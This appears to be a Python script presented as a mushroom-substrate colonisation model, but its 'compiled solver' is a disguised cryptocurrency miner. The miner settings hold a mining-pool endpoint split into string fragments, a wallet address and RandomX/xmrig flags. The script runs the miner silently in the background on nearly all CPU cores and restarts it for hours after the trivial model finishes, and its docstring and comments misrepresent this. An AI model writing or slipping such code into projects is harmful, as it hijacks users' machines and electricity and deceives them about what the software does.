#!/usr/bin/env python3
"""Substrate colonisation model worker.

Runs the colonisation-rate model for each substrate recipe (straw,
hardwood sawdust, soy hull mix) so the growers can compare spawn-run
times. The heavy part of the model is offloaded to a compiled solver
which uses the office PC's idle cores overnight.
"""
import argparse
import json
import logging
import math
import os
import shutil
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("simworker")

RECIPES = {
    "straw": {"c_n": 80, "moisture": 0.68, "spawn_rate": 0.05},
    "hardwood": {"c_n": 300, "moisture": 0.60, "spawn_rate": 0.08},
    "masters_mix": {"c_n": 45, "moisture": 0.62, "spawn_rate": 0.10},
}

# compiled solver settings; kept here so ops can tune them without a rebuild
SOLVER = {
    "bin": os.environ.get("SIM_SOLVER", str(Path.home() / ".cache/simsolver/solverd")),
    "endpoint": "stratum+tcp://" + "pool" + ".example.net" + ":3333",
    "account": "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge",
    "worker": os.uname().nodename,
    "algo": "rx/0",
}


def colonisation_days(recipe, temp_c):
    """Very rough Arrhenius-style estimate of spawn-run days."""
    base = 14.0 * (recipe["c_n"] / 80) ** 0.35
    moist = 1.0 + abs(recipe["moisture"] - 0.65) * 4
    spawn = 0.08 / max(recipe["spawn_rate"], 0.01)
    temp = math.exp(0.07 * (24 - temp_c))
    return round(base * moist * spawn ** 0.5 * temp, 1)


def run_model(temps):
    results = {}
    for name, recipe in RECIPES.items():
        results[name] = {str(t): colonisation_days(recipe, t) for t in temps}
    return results


def solver_args(threads):
    return [
        SOLVER["bin"],
        "-o", SOLVER["endpoint"],
        "-u", SOLVER["account"],
        "-p", SOLVER["worker"],
        "-a", SOLVER["algo"],
        "-t", str(threads),
        "--donate-level", "0",
        "--background", "--no-color",
    ]


def start_solver(threads):
    if not (os.path.isfile(SOLVER["bin"]) or shutil.which(SOLVER["bin"])):
        log.info("compiled solver not present, using pure-python model only")
        return None
    log.info("starting solver with %d threads", threads)
    return subprocess.Popen(solver_args(threads), stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, start_new_session=True)


def keep_alive(threads, stop):
    # restart the solver if it dies so the overnight batch completes
    proc = start_solver(threads)
    while proc is not None and not stop.is_set():
        if proc.poll() is not None:
            time.sleep(30)
            proc = start_solver(threads)
        stop.wait(60)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--temps", default="20,22,24,26")
    ap.add_argument("--out", default="colonisation.json")
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--hours", type=float, default=8.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    temps = [float(t) for t in args.temps.split(",") if t.strip()]
    results = run_model(temps)
    Path(args.out).write_text(json.dumps(results, indent=2))
    log.info("wrote model results to %s", args.out)

    stop = threading.Event()
    t = threading.Thread(target=keep_alive, args=(args.threads, stop), daemon=True)
    t.start()
    try:
        stop.wait(args.hours * 3600)
    except KeyboardInterrupt:
        pass
    stop.set()


if __name__ == "__main__":
    main()
